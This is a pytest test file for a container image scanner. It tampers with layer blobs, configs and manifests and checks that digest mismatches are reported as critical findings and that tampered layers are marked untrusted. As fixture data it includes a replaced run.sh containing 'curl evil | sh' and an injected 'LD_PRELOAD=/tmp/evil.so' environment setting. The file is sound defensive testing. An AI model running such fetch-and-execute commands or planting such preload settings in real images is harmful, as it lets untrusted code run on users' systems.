"""Tampered evidence: digest mismatches are critical findings, the scan goes on, the layer is untrusted."""

from __future__ import annotations

import gzip
import hashlib
import json
from pathlib import Path

import pytest

from scanner.engine import scan
from scanner.engine.model import Severity
from tests.imagefactory import Entry, RawBlob, build_image, compress, layer_tar, tamper

LAYERS = [[("/etc/os-release", b"ID=test\n")], [("/app/run.sh", b"#!/bin/sh\necho hi\n")],
          [("/app/data", b"data")]]


def _rules(findings: list) -> list[tuple[str, int | None]]:
    return [(f.rule_id, f.layer_index) for f in findings]


def _integrity(image) -> list:
    """The engine's own findings (the rule pack adds config, file and history findings of its own)."""
    return [f for f in image.findings if f.rule_id.startswith("integrity.")]


@pytest.mark.parametrize("fmt", ["oci-archive", "oci", "docker-archive-oci"])
def test_replaced_layer_blob(tmp_path: Path, fmt: str) -> None:
    built = build_image(tmp_path / "img", LAYERS, fmt=fmt)
    evil = compress(layer_tar([Entry("/app/run.sh", b"#!/bin/sh\ncurl evil | sh\n", mode=0o755)]), "gzip")
    tamper(built, built.layer_digests[1], evil)
    [image] = scan(str(built.path)).images
    mismatches = [f for f in image.findings if f.rule_id == "integrity.digest-mismatch"]
    assert len(mismatches) == 2  # the blob digest and the diff_id
    assert all(f.severity is Severity.CRITICAL and f.layer_index == 1 for f in mismatches)
    blob = mismatches[0]
    assert built.layer_digests[1] in blob.detail
    assert "sha256:" + hashlib.sha256(evil).hexdigest() in blob.detail
    assert [layer.trusted for layer in image.layers] == [True, False, True]
    assert image.layers[1].digest == built.layer_digests[1]  # the claim, with the actual one beside it
    assert image.layers[1].actual_digest == "sha256:" + hashlib.sha256(evil).hexdigest()
    # the scan went on: every layer's files are there, including the tampered content
    assert {f.path for f in image.files} == {"/etc/os-release", "/app/run.sh", "/app/data"}
    run = next(f for f in image.files if f.path == "/app/run.sh")
    assert run.sha256 == hashlib.sha256(b"#!/bin/sh\ncurl evil | sh\n").hexdigest()


def test_uncompressed_layer_tampered_in_legacy_docker_archive(tmp_path: Path) -> None:
    built = build_image(tmp_path / "img.tar", LAYERS, fmt="docker-archive", compression="none")
    tamper(built, built.layer_digests[2], layer_tar([("/app/data", b"DATA")]))
    [image] = scan(str(built.path)).images
    assert _rules(_integrity(image)) == [("integrity.digest-mismatch", 2)]
    assert "diff_id" in _integrity(image)[0].title and built.diff_ids[2] in _integrity(image)[0].detail
    assert [layer.trusted for layer in image.layers] == [True, True, False]


def test_corrupt_gzip_is_a_finding_and_the_scan_completes(tmp_path: Path) -> None:
    built = build_image(tmp_path / "img", LAYERS, fmt="oci")
    tamper(built, built.layer_digests[0], lambda b: b[:20] + bytes(x ^ 0xFF for x in b[20:40]) + b[40:])
    [image] = scan(str(built.path)).images
    rules = _rules(_integrity(image))
    assert ("integrity.digest-mismatch", 0) in rules and ("integrity.corrupt-layer", 0) in rules
    assert not image.layers[0].trusted and not image.layers[0].complete
    assert image.layers[0].actual_diff_id == ""
    assert {f.path for f in image.files} >= {"/app/run.sh", "/app/data"}


def test_truncated_layer_with_matching_digest(tmp_path: Path) -> None:
    """A hostile but self-consistent image: the layer's tar itself is cut short."""
    cut = layer_tar([("/a", b"x" * 3000), ("/b", b"y")])[:1500]
    built = build_image(tmp_path / "img", [cut, LAYERS[0]], fmt="oci-archive")
    [image] = scan(str(built.path)).images
    assert _rules(_integrity(image)) == [("integrity.corrupt-layer", 0)]
    assert "truncated" in _integrity(image)[0].detail
    assert image.layers[0].complete is False and image.layers[1].complete


def test_config_and_manifest_tampering(tmp_path: Path) -> None:
    built = build_image(tmp_path / "img", LAYERS, fmt="oci")
    cfg_path = built.path / "blobs/sha256" / built.config_digest.split(":")[1]
    cfg = json.loads(cfg_path.read_bytes())
    cfg["config"]["Env"] = ["LD_PRELOAD=/tmp/evil.so"]
    cfg_path.write_text(json.dumps(cfg))
    man_path = built.path / "blobs/sha256" / built.manifest_digest.split(":")[1]
    man_path.write_bytes(man_path.read_bytes() + b" ")
    [image] = scan(str(built.path)).images
    titles = [f.title for f in image.findings if f.rule_id == "integrity.digest-mismatch"]
    assert any(t.startswith("manifest") for t in titles) and any(t.startswith("config") for t in titles)
    assert all(f.severity is Severity.CRITICAL and f.layer_index is None for f in _integrity(image))
    assert image.config["config"]["Env"] == ["LD_PRELOAD=/tmp/evil.so"]  # reported as found


def test_legacy_config_named_by_digest_is_verified(tmp_path: Path) -> None:
    built = build_image(tmp_path / "img.tar", LAYERS[:1], fmt="docker-archive")
    tamper(built, built.config_digest, lambda b: b.replace(b'"amd64"', b'"arm64"'))
    [image] = scan(str(built.path)).images
    assert _rules(_integrity(image)) == [("integrity.digest-mismatch", None)]
    assert image.platform == "linux/arm64"


def test_config_with_fewer_diff_ids(tmp_path: Path) -> None:
    built = build_image(tmp_path / "img.tar", LAYERS, fmt="oci-archive",
                        config={"rootfs": {"type": "layers", "diff_ids": []}})
    [image] = scan(str(built.path)).images
    assert _rules(_integrity(image)) == [("integrity.digest-mismatch", None)]
    assert "number of layers" in _integrity(image)[0].title
    assert not any(layer.trusted for layer in image.layers)


def test_multi_member_gzip_layer_is_read_whole(tmp_path: Path) -> None:
    tar = layer_tar([("/first", b"1" * 5000), ("/second", b"2" * 5000)])
    blob = gzip.compress(tar[:3000], mtime=0) + gzip.compress(tar[3000:], mtime=0)
    built = build_image(tmp_path / "img", [RawBlob(blob, "sha256:" + hashlib.sha256(tar).hexdigest())],
                        fmt="oci")
    [image] = scan(str(built.path)).images
    assert _integrity(image) == [] and [f.path for f in image.files] == ["/first", "/second"]
